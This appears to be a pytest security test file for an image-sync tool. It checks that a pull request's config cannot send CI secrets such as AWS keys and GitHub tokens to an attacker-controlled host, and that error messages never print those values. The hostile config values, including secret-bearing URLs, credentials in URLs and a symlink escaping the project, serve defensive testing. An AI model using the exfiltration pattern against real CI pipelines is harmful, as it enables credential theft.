"""Findings 1 and 7: a pull request's imgsync.toml can't choose where the CI job's secrets go,
and a configuration error never shows a value."""

from __future__ import annotations

from pathlib import Path

import pytest

from imgsync.testing.attacker import Attacker
from imgsync.testing.fake_lsky import FakeLsky
from tests.hostile.conftest import SECRETS, assert_no_secret_reached, run_imgsync
from tests.images import png_bytes

PINNED = {"IMGSYNC_HOST_URL": "https://img.example.com/api/v1", "NO_PROXY": "127.0.0.1"}


def pull_request(project: Path, profile: str, *, table: str = "hosts.blog") -> None:
    """A post with one new image, and the config the pull request wrote."""
    (project / "post.md").write_text("# Hi\n\n![plot](plot.png)\n")
    (project / "plot.png").write_bytes(png_bytes())
    (project / "imgsync.toml").write_text(f'[{table}]\ntype = "lsky"\n{profile}')


def refused(project: Path, attacker: Attacker, env: dict[str, str] | None = None) -> str:
    """Run a sync as CI would; it must stop at the configuration, before any request."""
    done = run_imgsync(project, ".", env={"NO_PROXY": "127.0.0.1", **(env or {})})
    assert done.returncode == 2, done.stdout + done.stderr
    assert attacker.requests == 0 and attacker.received == b""
    assert_no_secret_reached(attacker)
    assert "![plot](plot.png)" in (project / "post.md").read_text()
    return done.stderr


@pytest.mark.parametrize(
    ("url", "said"),
    [
        # The attack, whole: a secret in the path, another in a form field.
        (
            "{origin}/x/${{AWS_SECRET_ACCESS_KEY}}/api/v1",
            "'url' names the variable ${AWS_SECRET_ACCESS_KEY} inside a longer value",
        ),
        # With an innocent-looking URL, the form field alone is refused just the same.
        ("{origin}/api/v1", "'expired_at' names the variable ${GITHUB_TOKEN}, but variables"),
    ],
)
def test_variables_outside_secrets_send_nothing(
    project: Path, attacker: Attacker, url: str, said: str
) -> None:
    profile = f'url = "{url.format(origin=attacker.origin)}"\ntoken = "${{LSKY_TOKEN}}"\n'
    pull_request(project, profile + 'expired_at = "${GITHUB_TOKEN}"\n')

    stderr = refused(project, attacker)

    assert "imgsync.toml: host profile 'blog': " in stderr and said in stderr


def test_a_whole_variable_that_is_not_a_url_is_refused_unseen(
    project: Path, attacker: Attacker
) -> None:
    pull_request(project, 'url = "${AWS_SECRET_ACCESS_KEY}"\ntoken = "${LSKY_TOKEN}"\n')

    stderr = refused(project, attacker)

    assert "'url' must start with http:// or https://" in stderr


@pytest.mark.parametrize("pin", ["IMGSYNC_HOST_URL", "LSKY_BASE_URL"])
def test_a_pinned_host_refuses_the_repositorys_url(
    project: Path, attacker: Attacker, pin: str
) -> None:
    pull_request(project, f'url = "{attacker.origin}/api/v1"\ntoken = "${{LSKY_TOKEN}}"\n')
    env = {"IMGSYNC_HOST_URL": PINNED["IMGSYNC_HOST_URL"]}
    if pin == "LSKY_BASE_URL":
        # The old variables alone (no config) pin nothing, but can't contradict the pin either.
        (project / "imgsync.toml").unlink()
        env["LSKY_BASE_URL"] = f"{attacker.origin}/api/v1"

    stderr = refused(project, attacker, env)

    # The URL is named as the user wrote it: the config's key, or the variable.
    named = "'url'" if pin == "IMGSYNC_HOST_URL" else "LSKY_BASE_URL"
    assert f"{named} names another host than IMGSYNC_HOST_URL, which pins" in stderr
    assert PINNED["IMGSYNC_HOST_URL"] not in stderr


def test_a_pinned_host_is_used_when_the_repository_names_no_url(project: Path) -> None:
    with FakeLsky(token=SECRETS["LSKY_TOKEN"]) as host:
        pull_request(project, 'token = "${LSKY_TOKEN}"\n')
        env = {"IMGSYNC_HOST_URL": host.url, "NO_PROXY": "127.0.0.1"}

        done = run_imgsync(project, ".", env=env)

        assert done.returncode == 0, done.stderr
        assert len(host.uploads) == 1
    assert "![plot](http://127.0.0.1:" in (project / "post.md").read_text()


def test_plain_http_off_this_machine_is_refused(project: Path, attacker: Attacker) -> None:
    # .invalid never resolves: had imgsync tried to connect, it would say "could not reach".
    pull_request(project, 'url = "http://img.example.invalid/api/v1"\ntoken = "${LSKY_TOKEN}"\n')

    stderr = refused(project, attacker)

    assert "'url' uses http:// for a host that is not this machine" in stderr
    assert "could not reach" not in stderr


def test_a_config_key_cannot_allow_http(project: Path, attacker: Attacker) -> None:
    pull_request(project, 'url = "http://img.example.invalid/api/v1"\n')
    text = (project / "imgsync.toml").read_text()
    (project / "imgsync.toml").write_text(f"allow_http = true\nIMGSYNC_ALLOW_HTTP = 1\n{text}")

    stderr = refused(project, attacker)

    assert "unknown key `allow_http`" in stderr


@pytest.mark.parametrize(
    ("url", "said"),
    [
        ("http://ci:hunter2-pass@{netloc}/api/v1", "must not hold a user name or password"),
        ("{origin}/api/v1?sig=hunter2-pass", "must not hold a query"),
        ("{origin}/api/v1#hunter2-pass", "must not hold a query (?...) or a fragment"),
    ],
)
def test_userinfo_query_and_fragment_are_refused_unprinted(
    project: Path, attacker: Attacker, url: str, said: str
) -> None:
    netloc = attacker.origin.removeprefix("http://")
    given = url.format(origin=attacker.origin, netloc=netloc)
    pull_request(project, f'url = "{given}"\ntoken = "${{LSKY_TOKEN}}"\n')

    stderr = refused(project, attacker)

    assert f"'url' {said}" in stderr and "hunter2" not in stderr


def test_a_host_table_typo_says_what_was_meant_and_never_its_token(
    project: Path, attacker: Attacker
) -> None:
    # Finding 7: `[host.blog]` printed the profile's dict, with the literal token.
    token = "1|literalTokenCommittedByMistake0123456789"
    pull_request(
        project, f'url = "{attacker.origin}/api/v1"\ntoken = "{token}"\n', table="host.blog"
    )

    done = run_imgsync(project, ".")

    assert done.returncode == 2 and attacker.requests == 0
    assert "`host` is a table, not the name of a profile; did you mean [hosts.blog]?" in done.stderr
    output = done.stdout + done.stderr
    assert token[2:14] not in output and attacker.origin not in output


# --- found by a review of the merged work ------------------------------------------------


def test_an_empty_pin_is_an_error_not_no_pin(project: Path, attacker: Attacker) -> None:
    # GitHub expands an undefined ${{ vars.IMGSYNC_HOST_URL }} to "": that must not unpin.
    pull_request(project, f'url = "{attacker.origin}/api/v1"\ntoken = "${{LSKY_TOKEN}}"\n')

    said = refused(project, attacker, {"IMGSYNC_HOST_URL": ""})

    assert "IMGSYNC_HOST_URL is set but empty, so it pins no host" in said


def test_lsky_base_url_in_the_environment_pins_the_host_too(
    project: Path, attacker: Attacker
) -> None:
    # The old scripts' set-up, LSKY_BASE_URL and LSKY_TOKEN: a pull request adding its own
    # profile must not have the token sent to its URL.
    pull_request(project, f'url = "{attacker.origin}/api/v1"\ntoken = "${{LSKY_TOKEN}}"\n')

    said = refused(project, attacker, {"LSKY_BASE_URL": "https://img.example.com/api/v1"})

    assert "'url' names another host than" in said


def test_a_config_file_linked_from_outside_the_project_is_not_read(
    project: Path, tmp_path: Path
) -> None:
    outside = tmp_path / "elsewhere.toml"
    outside.write_text('jobs = "a value from a file outside the project"\n')
    (project / "imgsync.toml").symlink_to(outside)
    (project / "post.md").write_text("# nothing local\n")

    done = run_imgsync(project, "check", ".")

    assert done.returncode == 2
    assert "a value from a file outside" not in done.stderr
    assert "imgsync.toml: refused: it is a symbolic link that leads outside" in done.stderr


@pytest.mark.parametrize(
    ("line", "said"),
    [
        ('max_size = "' + "9" * 400 + '"', "`max_size` must be a size such as"),
        ('cache = "a\\u0000b"', "`cache`: not a usable path"),
        ('site_root = "' + "a/" * 3000 + '"', "`site_root`: not a usable path"),
        ("read_timeout = 1e308", "`read_timeout` must be a number of seconds above 0"),
        ("rate_limit_wait = 1e308", "`rate_limit_wait` must be a number of seconds, not 1e+308"),
    ],
)
def test_hostile_config_values_are_config_errors(project: Path, line: str, said: str) -> None:
    (project / "imgsync.toml").write_text(line + "\n")
    (project / "post.md").write_text("# nothing local\n")

    done = run_imgsync(project, "check", ".")

    assert done.returncode == 2 and said in done.stderr, done.stderr
